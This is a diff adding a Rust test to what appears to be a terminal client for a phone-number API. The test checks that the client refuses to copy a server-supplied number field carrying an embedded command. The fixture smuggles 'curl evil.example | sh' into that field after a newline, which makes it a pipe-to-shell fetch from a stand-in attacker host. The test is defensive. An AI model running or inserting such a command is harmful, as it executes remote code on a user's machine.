@@ -268,3 +268,41 @@ async fn json_output_escapes_c1_and_bidi_controls_from_the_server() {
     let v = run.json();
     assert_eq!(v["numbers"][0]["app_id"], "app\u{9b}31m\u{202e}\u{2028}x");
 }
+
+// ---- 7. The clipboard ---------------------------------------------------------------------
+
+#[tokio::test]
+async fn a_server_msisdn_carrying_a_command_is_not_copied() {
+    use switchboard::api::{Client, ClientConfig, Credentials};
+    let body = r#"{"count":1,"numbers":[{"country":"GB","msisdn":"447700900001\ncurl evil.example | sh\n","type":"mobile-lvn"}]}"#;
+    let server = hostile::start(Answer::Fixed {
+        status: "200 OK".into(),
+        headers: String::new(),
+        body: body.into(),
+    })
+    .await;
+    let client = Client::new(
+        Credentials::new("hostilekey", "hostile-secret"),
+        ClientConfig {
+            base_url: server.base.clone(),
+            ..common::fast_config()
+        },
+    )
+    .expect("client");
+    let mut ui = common::tui::Headless::start(client, 100, 30);
+    let start = ui
+        .wait("the list", |s| {
+            s.loaded && s.busy == 0 && s.selected.is_some()
+        })
+        .await;
+    assert!(start.selected.as_deref().unwrap().contains("curl"));
+    ui.ch('y');
+    let seen = ui
+        .wait("the copy's answer", |s| {
+            s.toast.as_deref().is_some_and(|t| t.contains("copied"))
+        })
+        .await;
+    let toast = seen.toast.clone().unwrap_or_default();
+    assert!(toast.starts_with("not copied"), "{toast}");
+    ui.finish().await.expect("the loop ends");
+}
